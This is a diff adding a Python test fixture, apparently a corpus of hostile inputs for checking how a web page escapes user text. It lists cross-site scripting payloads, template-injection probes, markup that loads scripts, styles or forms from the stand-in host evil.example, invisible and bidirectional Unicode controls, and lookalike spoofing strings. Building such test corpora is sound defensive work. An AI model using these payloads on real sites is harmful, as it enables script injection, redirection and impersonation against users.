@@ -1,0 +1,42 @@
+"""Words that would do something if a page let them; each says by a dialog, a request or its look that it did."""
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><script href='//evil.example/x.js'></script></svg>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "' autofocus onfocus=alert(1) x='",
+    '" onmouseover=alert(1) style=position:fixed;inset:0 x="',
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href=javascript:alert(1)>613</a>",
+    "<form action=//evil.example><button>613</button></form>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example/x.css';body{display:none}</style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data=//evil.example/x></object>",
+    "<template><script>alert(1)</script></template>",
+    "<div hx-get=//evil.example hx-trigger=load></div>",
+    "<div hx-on:load=alert(1) data-hx-on:click=alert(1)>",
+    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
+    "%(by)s %s %d {0} {by}",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+)
+TURNING = (
+    "\u202e613\u202c", "\u2067613 \u2066of\u2069", "\u202d316", "613\u200f-5", "\u061c613", "\u2066", "\u2069\u2069",
+    "61\u200b3", "61\u00ad3", "\u0000613", "6\u00013", "613\ufeff", "\u2028613\u2029",
+)  # fmt: skip
+LIKENESS = ("Кhojaly", "Ꮶhojaly", "Ｋｈｏｊａｌｙ", "𝐊hojaly", "Ʀussia", "аdmin")
+HOSTILE = (*MARKUP, *TURNING, *LIKENESS)
